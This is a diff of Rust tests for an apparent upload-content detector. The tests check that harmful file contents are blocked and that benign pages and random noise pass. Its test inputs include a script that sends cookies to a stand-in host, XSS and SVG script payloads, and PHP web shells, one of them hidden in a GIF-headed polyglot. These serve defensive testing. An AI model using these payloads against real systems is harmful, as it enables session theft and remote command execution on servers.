@@ -1,4 +1,4 @@
-use crate::detectors::testing::{blocks_at, passes_at};
+use crate::detectors::testing::{blocks_at, look, passes_at};
 use crate::{Class, Place};
 
 #[track_caller]
@@ -68,6 +68,48 @@ fn contents() {
     content("<?xml version=\"1.0\"?><svg onload=\"alert(1)\"/>", "svg-script");
     content("push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://a.example/x|y)'", "image-command");
     content("AddType application/x-httpd-php .jpg", "obeyed-content");
+}
+
+#[test]
+fn pages_and_noise() {
+    content("<!doctype html><p>x</p><script>fetch('//a.example/?'+document.cookie)</script>", "page-script");
+    content("<html><body onload=alert(document.domain)>", "page-script");
+    // However much stands before the drawing's element, or before the script in it.
+    let drawing = |pad: usize| {
+        format!(
+            "<?xml version=\"1.0\"?><!-- {} --><svg>{}<script>x()</script></svg>",
+            "a ".repeat(pad),
+            "<g/>".repeat(pad)
+        )
+    };
+    content(&drawing(1), "svg-script");
+    content(&drawing(4_000), "svg-script");
+    for text in [
+        "<!doctype html><title>Reference manual</title><script src=\"a.js\"></script><script>var searchbox = new SearchBox('x');</script>",
+        "id;text\n1;<script>alert(1)</script>\n",
+        "<html><title>Reference manual of the library</title><svg><g/></svg><p>Contents</p><script>init();</script></html>",
+    ] {
+        passes_at(Class::Upload, Place::FileContent, "file", text);
+    }
+    // Every piece of code counts, not only the first one.
+    content("<?php echo 1; ?>\n<p>x</p>\n<?php system($_GET['c']); ?>", "web-shell");
+    // The two signs are chance in noise.
+    let mut state = 0x1234_5678_9ABC_DEF1u64;
+    let noise: Vec<u8> = (0..1 << 20)
+        .map(|_| {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            (state >> 32) as u8
+        })
+        .collect();
+    for mark in [&b"<?="[..], b"<%", b"<? "] {
+        let file = [&b"GIF89a"[..], &noise[..5_000], mark, &noise[5_000..]].concat();
+        assert!(!look(Class::Upload, Place::FileContent, "file", &file).1, "{}", mark.escape_ascii());
+    }
+    assert!(!look(Class::Upload, Place::FileContent, "file", &noise).1);
+    let shell = [&b"GIF89a"[..], &noise[..60_000], b"<?=`$_GET[0]`?>", &noise[..3_000]].concat();
+    assert!(look(Class::Upload, Place::FileContent, "file", &shell).1);
 }
 
 #[test]
